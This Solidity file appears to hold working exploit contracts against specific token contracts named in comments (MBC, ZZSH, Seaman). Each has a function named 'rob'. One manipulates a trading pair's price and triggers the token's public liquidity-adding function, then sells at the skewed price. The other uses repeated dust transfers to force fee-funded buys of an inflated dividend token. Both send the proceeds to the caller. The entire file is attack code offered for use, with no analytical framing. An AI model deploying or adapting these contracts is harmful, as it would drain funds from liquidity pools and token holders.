// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0, uint256 amount1, address to, bytes calldata data) external;
}

interface ILiquifying {
    function swapAndLiquifyStepv1() external;
}

/// Buys from a pair and sells to it, by the pair's own reserves. What happens in between is up to the heirs.
abstract contract PairTrader {
    function _trade(address pair, address token, uint256 amount) internal {
        (uint256 reserve0, uint256 reserve1,) = IPair(pair).getReserves();
        bool first = IPair(pair).token0() == token;
        (uint256 reserveIn, uint256 reserveOut) = first ? (reserve0, reserve1) : (reserve1, reserve0);
        IERC20(token).transfer(pair, amount);
        // Tokens with fees bring less than was sent.
        uint256 brought = (IERC20(token).balanceOf(pair) - reserveIn) * 9975;
        uint256 out = brought * reserveOut / (reserveIn * 10_000 + brought);
        IPair(pair).swap(first ? 0 : out, first ? out : 0, address(this), "");
    }

    function _balance(address token) internal view returns (uint256) {
        return IERC20(token).balanceOf(address(this));
    }
}

/// MBC, ZZSH: buys nearly all of a token, has the token add its own dollars to the pair at that price, and sells.
contract MidwayLiquifier is PairTrader {
    function rob(address[] calldata tokens, address[] calldata pairs, address dollar) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            _trade(pairs[i], dollar, _balance(dollar) - 2002);
            ILiquifying(tokens[i]).swapAndLiquifyStepv1();
            // What looks like added liquidity pays no fee.
            IERC20(dollar).transfer(pairs[i], 1001);
            _trade(pairs[i], tokens[i], _balance(tokens[i]));
        }
        IERC20(dollar).transfer(msg.sender, _balance(dollar));
    }
}

/// Seaman: makes its dividends' token dear, has Seaman buy that for its fees again and again, and sells.
contract DustSender is PairTrader {
    function rob(address seaman, address pair, address dividend, address dividendPair, address dollar, uint256 times)
        external
    {
        _trade(dividendPair, dollar, _balance(dollar));
        for (uint256 i = 0; i < times; i++) {
            IERC20(seaman).transfer(pair, 1);
        }
        _trade(dividendPair, dividend, _balance(dividend));
        IERC20(dollar).transfer(msg.sender, _balance(dollar));
    }
}
